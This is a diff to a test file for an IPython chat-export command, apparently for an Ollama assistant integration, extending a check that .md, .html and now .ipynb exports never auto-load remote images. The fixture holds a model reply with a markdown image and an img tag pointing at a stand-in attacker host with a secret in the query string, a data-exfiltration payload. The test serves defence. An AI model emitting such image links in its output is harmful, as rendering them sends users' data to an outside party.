@@ -138,7 +138,7 @@ def test_export_refuses_an_unknown_format(ip, server, tmp_path):
     assert "use .ipynb, .md, .html or .json" in str(result.error_in_exec)
 
 
-@pytest.mark.parametrize("suffix", [".md", ".html"])
+@pytest.mark.parametrize("suffix", [".md", ".html", ".ipynb"])
 def test_exports_never_load_a_remote_image_by_themselves(ip, server, tmp_path, suffix):
     server.push(
         Turn(content="Here: ![chart](http://evil.example/leak?secret=42) <img src=http://evil.example/x>")
@@ -147,5 +147,9 @@ def test_exports_never_load_a_remote_image_by_themselves(ip, server, tmp_path, s
     path = tmp_path / f"chat{suffix}"
     ip.run_cell(f"%ollama export {path}")
     text = path.read_text()
+    if suffix == ".ipynb":  # markdown cells: JupyterLab would load their images
+        text = "".join(
+            c.source for c in nbformat.reads(text, as_version=4).cells if c.cell_type == "markdown"
+        )
     assert "http://evil.example/leak?secret=42" in text  # named, so a reader can follow it by hand
     assert "![chart](http" not in text and "<img" not in text
